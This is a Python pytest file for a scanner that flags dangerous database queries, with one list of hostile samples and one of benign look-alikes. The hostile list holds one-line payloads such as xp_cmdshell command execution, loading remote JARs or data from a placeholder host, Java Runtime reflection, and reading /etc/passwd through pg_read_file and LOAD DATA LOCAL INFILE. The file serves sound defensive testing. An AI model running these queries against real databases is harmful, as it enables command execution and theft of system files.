"""Queries that make a database do more than answer, and those that only look like it."""

import pytest

from budmodel_scanner.texts.queries import query_deed

HOSTILE = [
    "SELECT load_extension('./hook');",
    "\\! id",
    "EXEC xp_cmdshell 'id';",
    "SELECT writefile('/tmp/a', x) FROM t;",
    "CREATE FUNCTION f AS 'a.B' USING JAR 'http://x.invalid/a.jar';",
    "ADD JAR http://x.invalid/a.jar;",
    "externaldata(a:string) ['https://x.invalid/x'] | take 1",
    "t | evaluate python(typeof(*), 'x')",
    "LOAD CSV WITH HEADERS FROM 'https://x.invalid/a.csv' AS row RETURN row",
    "SELECT * FROM url('https://x.invalid/a.csv', CSV)",
    "SELECT reflect('java.lang.Runtime', 'getRuntime')",
    "{ $where: \"sleep(1)\" }",
    "SELECT pg_read_file('/etc/passwd');",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;",
]  # fmt: skip
ORDINARY = [
    "SELECT url, host FROM pages WHERE url = 'https://x.invalid/a';",
    "LOAD CSV WITH HEADERS FROM 'file:///a.csv' AS row RETURN row",
    "SELECT count(*) FROM extensions; -- load extensions later",
    "CREATE FUNCTION f() RETURNS int AS '$libdir/a', 'f' LANGUAGE C;",
    "t | evaluate bag_unpack(a)",
    "SELECT * FROM url('http://localhost:8123/a', CSV)",
    "INSERT INTO t VALUES ('pg_read_file', 1);",
]


@pytest.mark.parametrize("query", HOSTILE)
def test_deeds_are_told(query: str) -> None:
    assert query_deed(query)


@pytest.mark.parametrize("query", ORDINARY)
def test_questions_are_left_alone(query: str) -> None:
    assert query_deed(query) is None
